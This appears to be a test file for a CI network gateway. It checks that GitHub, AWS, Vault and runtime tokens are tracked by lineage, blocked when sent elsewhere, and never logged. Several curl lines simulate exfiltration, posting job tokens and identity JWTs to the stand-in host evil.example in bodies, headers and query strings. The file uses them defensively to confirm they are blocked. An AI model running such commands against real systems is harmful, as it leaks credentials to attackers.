// Credentials from live traffic: tokens that answers hand out and where they go, identity tokens and their audience, the
// runtime's own token at artifacts and caches, redirects of `follow` rules; and none of their texts in what is kept.

import type { IncomingMessage, ServerResponse } from 'node:http';
import t from 'tap';
import type { FlowRecord } from '../../flow/flow.ts';
import { digestToken } from '../../flow/token-digest.ts';
import { runIpBatch } from '../../netns/ip.ts';
import { WebServer } from '../../netns/web-server.ts';
import { Lab } from '../lab/lab.ts';

const address = '93.184.216.83';
const service = 'run-actions-1-azure-eastus.actions.githubusercontent.com';
const results = 'results-receiver.actions.githubusercontent.com';
const hosts = [
  'api.github.com',
  'codeload.github.com',
  'ghcr.io',
  service,
  results,
  'sts.amazonaws.com',
  's3.amazonaws.com',
  'vault.example',
  'evil.example',
  'nexus.example',
  'files.example',
  'far.example',
  'listed.example',
];
const jwt = (claims: object, end: string): string =>
  [
    Buffer.from('{"alg":"RS256","typ":"JWT"}').toString('base64url'),
    Buffer.from(JSON.stringify(claims)).toString('base64url'),
    end.repeat(6),
  ].join('.');
/** Every text that must be nowhere. */
const secrets = {
  job: `ghs_${'J0b7'.repeat(9)}`,
  app: jwt({ iss: '4711' }, 'appSignature'),
  installation: `ghs_${'Inst4'.repeat(8)}`,
  bearer: `ghcr${'Bear3r'.repeat(8)}`,
  runtime: jwt({ scp: 'Actions.Results:plan:job', orchid: 'own' }, 'ownRuntime0'),
  otherRuntime: jwt({ scp: 'Actions.Results:other:job', orchid: 'other' }, 'otherRuntime'),
  identity: jwt(
    { iss: 'https://token.actions.githubusercontent.com', repository: 'acme/app' },
    'identity0Sig',
  ),
  vaultIdentity: jwt({ iss: 'https://token.actions.githubusercontent.com', aud: 'vault' }, 'vault0identity'),
  strange: jwt({ iss: 'https://token.actions.githubusercontent.com', repository: 'evil/x' }, 'strangeSigned'),
  key: `ASIA${'Q2W3'.repeat(4)}`,
  session: `IQoJb3JpZ2luX2Vj${'Sess1on'.repeat(12)}`,
  vault: `hvs.${'Vault9'.repeat(10)}`,
  personal: `ghp_${'P3rs'.repeat(9)}`,
} as const;

const lab = await Lab.open({ runners: 2 });
runIpBatch(lab.topology.internet, [`addr add ${address}/32 dev lo`]);
for (const host of hosts) lab.origins.names.set(host, { a: [address] });
lab.origins.names.set('inside.example', { a: ['10.66.0.1'] });

const redirects: Readonly<Record<string, readonly [number, string]>> = {
  '/file': [302, 'https://files.example/a?sig=1'],
  '/kept': [307, 'https://files.example/up?sig=2'],
  '/hop': [302, 'https://files.example/hop'],
  '/plain': [302, 'http://files.example/plain'],
  '/listed': [302, 'https://listed.example/x'],
  '/inside': [302, 'https://inside.example/x'],
  '/literal': [302, `https://${address}/x`],
  '/write': [307, 'https://api.github.com/repos/third/x/issues'],
};

async function answer(
  request: IncomingMessage,
  response: ServerResponse,
  host: string,
  target: string,
): Promise<void> {
  for await (const part of request) void part;
  const [path = '', query = ''] = target.split('?');
  const json = (value: unknown, status = 200): void =>
    void response.writeHead(status, { 'content-type': 'application/json' }).end(JSON.stringify(value));
  const redirect = host === 'nexus.example' ? redirects[path] : undefined;
  if (redirect !== undefined) return void response.writeHead(redirect[0], { location: redirect[1] }).end();
  if (host === 'files.example' && path === '/hop')
    return void response.writeHead(302, { location: 'https://far.example/z' }).end();
  if (path.endsWith('/tarball/main'))
    return void response
      .writeHead(302, { location: 'https://codeload.github.com/third/x/legacy.tar.gz/main' })
      .end();
  if (path.endsWith('/access_tokens')) return json({ token: secrets.installation }, 201);
  if (path === '/token') return json({ token: secrets.bearer });
  if (path.includes('/idtoken/'))
    return json({ count: 1, value: query.includes('vault') ? secrets.vaultIdentity : secrets.identity });
  if (host === 'vault.example') return json({ auth: { client_token: secrets.vault } });
  if (host === 'sts.amazonaws.com') {
    const body = `<R><Credentials><AccessKeyId>${secrets.key}</AccessKeyId><SecretAccessKey>x</SecretAccessKey><SessionToken>${secrets.session}</SessionToken></Credentials></R>`;
    return void response.writeHead(200, { 'content-type': 'text/xml' }).end(body);
  }
  json({ ok: true });
}

const server = new WebServer({
  namespace: lab.topology.internet,
  addresses: [address],
  http: [80],
  https: [443],
  authority: lab.origins.authority,
  answer: (request, response, { host, target }) => void answer(request, response, host, target),
});
await server.start();
const job = { platform: 'github', server: 'github.com', ref: 'refs/heads/main', event: 'push' } as const;
await lab.startGateway(
  `version: 1
mode: block
credentials: {foreignToken: block, foreignOwner: block}
oidc: {audiences: [sts.amazonaws.com, {audience: vault, host: vault.example}]}
github: [{id: read, repo: "acme/*", follow: true}]
aws: [{id: role, accounts: "123456789012", services: sts}, {id: lake, buckets: lake}]
http:
  - {id: evil, host: evil.example, methods: any}
  - {id: vault, host: vault.example, methods: any}
  - {id: nexus, host: nexus.example, methods: any, follow: true}
  - {id: plain, host: nexus.example, scheme: http, methods: any}
blocklist: [{hosts: listed.example}]
scopes:
  - id: main
    match: {owner: acme, ref: refs/heads/main}
    github:
      - {id: own, repo: "{job.repo}", access: write}
      - {id: friend, repo: friend/x, access: write}
      - {id: tokens, repo: "{job.repo}", operations: [apps/create-installation-access-token, oidc/token]}
`,
  {
    jobs: ['acme/app', 'acme/other'].map((repository, index) => ({
      ...job,
      repository,
      addresses: [lab.runner(index).v4, lab.runner(index).v6],
      ...(index === 0 && {
        tokenDigest: digestToken(secrets.job),
        runtimeTokenDigest: digestToken(secrets.runtime),
      }),
    })),
  },
);
t.teardown(async () => {
  server.close();
  await lab.close();
});
t.setTimeout(120_000);

interface Call {
  readonly bearer?: string;
  readonly basic?: string;
  readonly body?: string;
  readonly type?: string;
  readonly headers?: readonly string[];
}
const line = (name: string, method: string, url: string, call: Call = {}): string => {
  const { bearer, basic, body, type = 'application/json', headers = [] } = call;
  const fields = [
    ...(bearer === undefined ? [] : [`Authorization: Bearer ${bearer}`]),
    ...(body === undefined ? [] : [`Content-Type: ${type}`]),
    ...headers,
  ];
  const options = fields.map((field) => `-H '${field}'`).join(' ');
  const user = basic === undefined ? '' : `-u 'x:${basic}'`;
  const data = body === undefined ? '' : `--data-raw '${body}'`;
  return `curl -s -o /dev/null -w '${name}=%{http_code}\\n' -X ${method} ${options} ${user} ${data} '${url}'`;
};

/** Runs the lines one after the other; answers `name=status` in their order. */
async function run(lines: readonly string[], runner = 0): Promise<string[]> {
  const { stdout } = await lab.run(['sh', '-c', lines.join('\n')], { runner, timeoutMs: 60_000 });
  return stdout.trim().split('\n');
}

const closed = async (test: (record: FlowRecord) => boolean): Promise<FlowRecord> => {
  const found = await lab.gateway.findRecord(
    (record) => record.kind === 'request' && record.phase === 'closed' && test(record),
  );
  if (found === null) throw new Error('no such record');
  return found;
};
const at = (host: string, path: string) => (record: FlowRecord) =>
  record.destination.host === host && record.http?.path === path;

const api = 'https://api.github.com';
t.test('tokens of an app and of a registry are known by what they were made with', async (t) => {
  t.same(
    await run([
      line('before', 'POST', `${api}/repos/acme/app/issues`, { bearer: secrets.installation, body: '{}' }),
      line('mint', 'POST', `${api}/app/installations/7/access_tokens`, { bearer: secrets.app, body: '{}' }),
      line('own', 'POST', `${api}/repos/acme/app/issues`, { bearer: secrets.installation, body: '{}' }),
      line('friend', 'POST', `${api}/repos/friend/x/issues`, { bearer: secrets.installation, body: '{}' }),
      line('friend-job', 'POST', `${api}/repos/friend/x/issues`, { bearer: secrets.job, body: '{}' }),
      line('token', 'GET', 'https://ghcr.io/token?service=ghcr.io&scope=repository:acme/app:pull', {
        basic: secrets.job,
      }),
      line('pull', 'GET', 'https://ghcr.io/v2/acme/app/manifests/latest', { bearer: secrets.bearer }),
      line('stolen', 'GET', 'https://evil.example/registry', { bearer: secrets.bearer }),
      line('plain', 'GET', 'https://evil.example/plain', { bearer: 'somethingElse' }),
    ]),
    [
      'before=200',
      'mint=201',
      'own=200',
      'friend=403',
      'friend-job=200',
      'token=200',
      'pull=200',
      'stolen=403',
      'plain=200',
    ],
  );
  const minted = await closed(at('api.github.com', '/app/installations/7/access_tokens'));
  const own = await closed(
    (record) => at('api.github.com', '/repos/acme/app/issues')(record) && record.lineage !== undefined,
  );
  t.match(minted.minted, [{ made: 'installation', root: 'app' }]);
  t.match(own.lineage, { made: 'installation', root: 'app', id: minted.minted![0]!.id, flow: minted.id });
  t.match(own.operation, { credential: 'derived', made: 'installation', root: 'app' });
  const friend = await closed(
    (record) => at('api.github.com', '/repos/friend/x/issues')(record) && record.decision.verdict === 'block',
  );
  t.match(friend, { decision: { reason: 'foreign-owner' }, evidence: [{ kind: 'foreign-owner' }] });
  const pull = await closed(at('ghcr.io', '/v2/acme/app/manifests/latest'));
  t.match(pull, {
    operation: { credential: 'derived', root: 'job' },
    lineage: { made: 'registry', root: 'job' },
  });
  const stolen = await closed(at('evil.example', '/registry'));
  t.match(stolen, {
    decision: { verdict: 'block', reason: 'foreign-token' },
    lineage: { id: pull.lineage!.id },
    evidence: [{ kind: 'foreign-token' }],
  });
  t.equal((await closed(at('evil.example', '/plain'))).lineage, undefined);
});

const idtoken = (audience: string) =>
  `https://${service}/3//idtoken/plan/job?api-version=2.0&audience=${audience}`;
const role = (token: string) =>
  `Action=AssumeRoleWithWebIdentity&Version=2011-06-15&RoleArn=arn:aws:iam::123456789012:role/ci&RoleSessionName=x&WebIdentityToken=${token}`;
const form = 'application/x-www-form-urlencoded';
const signed = `Authorization: AWS4-HMAC-SHA256 Credential=${secrets.key}/20260101/us-east-1/s3/aws4_request, SignedHeaders=host, Signature=${'0'.repeat(64)}`;

t.test('an identity token: the audience, where it went, and what it was exchanged for', async (t) => {
  t.same(
    await run([
      line('unseen', 'POST', 'https://evil.example/early', { body: `{"t":"${secrets.vaultIdentity}"}` }),
      line('asked', 'GET', idtoken('sts.amazonaws.com'), { bearer: secrets.runtime }),
      line('unlisted', 'GET', idtoken('else'), { bearer: secrets.runtime }),
      line('role', 'POST', 'https://sts.amazonaws.com/', { body: role(secrets.identity), type: form }),
      line('lake', 'GET', 'https://s3.amazonaws.com/lake/key', {
        headers: [signed, `X-Amz-Security-Token: ${secrets.session}`],
      }),
      line('body', 'POST', 'https://evil.example/body', { body: `{"t":"${secrets.identity}"}` }),
      line('field', 'GET', 'https://evil.example/field', { headers: [`X-Note: ${secrets.identity}`] }),
      line('query', 'GET', `https://evil.example/query?t=${secrets.identity}`),
      line('other-body', 'POST', 'https://evil.example/other', { body: '{"t":"nothing"}' }),
      line('vault-asked', 'GET', idtoken('vault'), { bearer: secrets.runtime }),
      line('vault', 'POST', 'https://vault.example/v1/auth/jwt/login', {
        body: `{"jwt":"${secrets.vaultIdentity}"}`,
      }),
      line('vault-body', 'POST', 'https://evil.example/vault', {
        body: `{"jwt":"${secrets.vaultIdentity}"}`,
      }),
      line('vault-read', 'GET', 'https://vault.example/v1/secret', {
        headers: [`X-Vault-Token: ${secrets.vault}`],
      }),
      line('strange', 'POST', 'https://sts.amazonaws.com/', { body: role(secrets.strange), type: form }),
    ]),
    [
      'unseen=200',
      'asked=200',
      'unlisted=403',
      'role=200',
      'lake=200',
      'body=403',
      'field=403',
      'query=403',
      'other-body=200',
      'vault-asked=200',
      'vault=200',
      'vault-body=403',
      'vault-read=200',
      'strange=403',
    ],
  );
  const asked = await closed(
    (record) =>
      record.operation?.name === 'oidc/token' &&
      record.minted !== undefined &&
      record.minted[0]!.audience === 'sts.amazonaws.com',
  );
  const identity = asked.minted![0]!;
  t.match(identity, { made: 'identity', root: 'job', audience: 'sts.amazonaws.com' });
  t.match(asked.lineage, { made: 'runtime', root: 'job', id: identity.parent! });
  const exchanged = await closed(
    (record) => record.destination.host === 'sts.amazonaws.com' && record.minted !== undefined,
  );
  t.match(exchanged.lineage, { made: 'identity', id: identity.id, audience: 'sts.amazonaws.com' });
  t.match(exchanged.minted, [
    { made: 'cloud', parent: identity.id },
    { made: 'cloud', parent: identity.id },
  ]);
  const lake = await closed(at('s3.amazonaws.com', '/lake/key'));
  t.match(lake, { operation: { credential: 'derived', made: 'cloud' }, lineage: { parent: identity.id } });
  for (const path of ['/body', '/field', '/query'])
    t.match(
      await closed(at('evil.example', path)),
      {
        decision: { verdict: 'block', reason: 'foreign-token' },
        lineage: { id: identity.id, audience: 'sts.amazonaws.com' },
        evidence: [{ kind: 'foreign-token' }],
      },
      path,
    );
  const vault = await closed(at('vault.example', '/v1/auth/jwt/login'));
  t.match(vault, {
    lineage: { made: 'identity', audience: 'vault' },
    minted: [{ made: 'exchange' }],
    evidence: [],
  });
});

t.test('the runtime’s token is the job’s own, and another one is nobody’s', async (t) => {
  const save = `https://${results}/twirp/github.actions.results.api.v1.CacheService/CreateCacheEntry`;
  const body = '{"key":"deps","version":"v1"}';
  t.same(
    await run([
      line('own', 'POST', save, { bearer: secrets.runtime, body }),
      line('other', 'POST', save, { bearer: secrets.otherRuntime, body }),
      line('none', 'POST', save, { body }),
      line('elsewhere', 'POST', 'https://evil.example/runtime', { bearer: secrets.runtime, body }),
    ]),
    ['own=200', 'other=403', 'none=403', 'elsewhere=403'],
  );
  t.same(await run([line('theirs', 'POST', save, { bearer: secrets.runtime, body })], 1), ['theirs=403']);
  t.match(await closed((record) => record.operation?.name === 'cache/save' && record.evidence.length > 0), {
    evidence: [{ kind: 'foreign-token', detail: /not the one of this job/ }],
  });
  await closed(
    ({ operation, job: whose }) => operation?.name === 'cache/save' && whose?.repository === 'acme/other',
  );
  const records = (await lab.gateway.records()).filter(
    ({ phase, operation }) => phase === 'closed' && operation?.name === 'cache/save',
  );
  t.same(
    records.map(({ decision, lineage }) => [
      decision.verdict,
      decision.rule ?? decision.reason,
      lineage?.made ?? null,
    ]),
    [
      ['allow', 'own', 'runtime'],
      ['block', 'repository', null],
      ['block', 'repository', null],
      ['block', 'repository', null],
    ],
  );
});

t.test('a follow rule opens where its answers lead, and nothing beside', async (t) => {
  const nexus = 'https://nexus.example';
  const follow = (name: string, path: string): string =>
    `curl -sL -o /dev/null -w '${name}=%{http_code}\\n' ${nexus}${path}`;
  t.same(
    await run([
      line('closed', 'GET', 'https://files.example/a?sig=1'),
      follow('file', '/file'),
      line('again', 'GET', 'https://files.example/a?sig=1', { headers: ['Cookie: a=b', 'X-Any: 1'] }),
      line('query', 'GET', 'https://files.example/a?sig=2'),
      line('write', 'POST', 'https://files.example/a?sig=1', { body: '{}' }),
      `curl -sL -o /dev/null -w 'kept=%{http_code}\\n' -X PUT --data-raw x ${nexus}/kept`,
      line('kept-read', 'GET', 'https://files.example/up?sig=2'),
      follow('chain', '/hop'),
      follow('plain', '/plain'),
      follow('listed', '/listed'),
      follow('inside', '/inside'),
      follow('literal', '/literal'),
      `curl -sL -o /dev/null -w 'forge=%{http_code}\\n' -X POST --data-raw '{}' ${nexus}/write`,
      `curl -sL -o /dev/null -w 'archive=%{http_code}\\n' -u x:${secrets.job} ${api}/repos/acme/app/tarball/main`,
      line('other-archive', 'GET', 'https://codeload.github.com/third/x/legacy.tar.gz/v2'),
      `curl -sL --location-trusted -o /dev/null -w 'trusted=%{http_code}\\n' -H 'Authorization: Bearer ${secrets.personal}' ${api}/repos/acme/app/tarball/main`,
    ]),
    [
      'closed=403',
      'file=200',
      'again=200',
      'query=403',
      'write=403',
      'kept=200',
      'kept-read=403',
      'chain=200',
      'plain=403',
      'listed=302',
      'inside=302',
      'literal=403',
      'forge=403',
      'archive=200',
      'other-archive=403',
      'trusted=200',
    ],
  );
  t.same(await run([line('other-job', 'GET', 'https://files.example/a?sig=1')], 1), ['other-job=403']);
  const inside = await lab.gateway.findRecord(({ destination }) => destination.host === 'inside.example');
  t.ok(inside, 'the attempt at a private range is recorded');
  t.equal(
    server.arrived.some(({ target }) => target === '/repos/third/x/issues'),
    false,
  );
  t.equal(
    server.arrived.some(({ host }) => host === 'listed.example'),
    false,
    'a listed name is not even resolved',
  );
});

t.test('none of the texts is in a record, the log or a metric', async (t) => {
  const { body } = await lab.gateway.operator('/metrics');
  const kept = lab.gateway.segmentText() + lab.gateway.log() + body;
  t.ok(kept.length > 20_000);
  for (const [name, text] of Object.entries(secrets)) {
    t.notOk(kept.includes(text), name);
    t.notOk(kept.includes(text.slice(-24)), `the end of ${name}`);
  }
});
